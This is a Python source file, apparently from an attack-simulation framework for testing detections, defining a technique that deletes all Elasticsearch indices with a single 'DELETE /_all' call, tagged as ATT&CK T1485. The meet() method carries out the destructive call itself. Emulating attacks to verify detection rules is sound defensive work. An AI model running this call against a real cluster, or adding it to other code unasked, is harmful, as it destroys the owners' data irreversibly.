"""G12: one call deletes all indices."""

from contextlib import closing

from backwatch.attack.techniques.search import AbusedSearch


class ElasticsearchAllDeleted(AbusedSearch):
    """An app whose account may do everything."""

    attack = "deletes everything that can be searched for"
    reference = (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/indices-delete-index.html; ATT&CK T1485"
    )
    rule = "data-destroyed"
    captures = b"DELETE /_all"

    def meet(self) -> object:
        """Delete all indices as the attacker."""
        with closing(self.client.open()) as client:
            return client.indices.delete(index="_all")["acknowledged"]
